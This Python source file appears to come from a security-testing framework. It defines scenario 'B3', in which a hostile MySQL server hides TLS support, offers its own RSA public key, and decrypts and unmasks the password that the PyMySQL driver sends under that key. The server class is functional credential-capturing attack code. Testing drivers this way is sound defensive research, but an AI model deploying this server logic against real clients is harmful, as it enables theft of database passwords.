"""B3: a server without TLS provides a key. The driver encrypts the password with it."""

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

from backwatch.attack.authority import Authority
from backwatch.attack.clients.pymysql import PyMySQL
from backwatch.attack.demo.services.mysql import SALT, Packets
from backwatch.attack.protocols.server import SECRET
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.mysql_tls import PROOF_REFUSED, ForgetsTls, TlsStrippingMySQL


class OwnKey(TlsStrippingMySQL):
    """Offers no TLS, but a key of its own to send the password under, once hostile."""

    def __init__(self, authority: Authority, port: int = 0) -> None:
        super().__init__(authority, port)
        self._key = rsa.generate_private_key(public_exponent=65_537, key_size=2_048)

    def log_in(self, wire: Packets, proof: bytes) -> None:
        """Ask for the password, under its own key."""
        if not self.hostile:
            super().log_in(wire, proof)
            return
        wire.send(PROOF_REFUSED)
        wire.receive()  # the request for the key
        public = self._key.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        wire.send(b"\x01" + public)
        oaep = padding.OAEP(padding.MGF1(hashes.SHA1()), hashes.SHA1(), None)  # noqa: S303  the plugin's protocol requires it
        masked = self._key.decrypt(wire.receive(), oaep)
        self.on_leak(bytes(a ^ SALT[i % len(SALT)] for i, a in enumerate(masked)).rstrip(b"\0"))


class KeyFromServer(ForgetsTls):
    """The driver asks the server itself for the key to encrypt the password with."""

    code = "B3"
    attack = "hides that it supports TLS, and has the password sent under its own key"
    reference = "https://dev.mysql.com/doc/refman/8.4/en/caching-sha2-pluggable-authentication.html"
    server = OwnKey
    captures = SECRET.encode()
    runs = (Run(PyMySQL),)
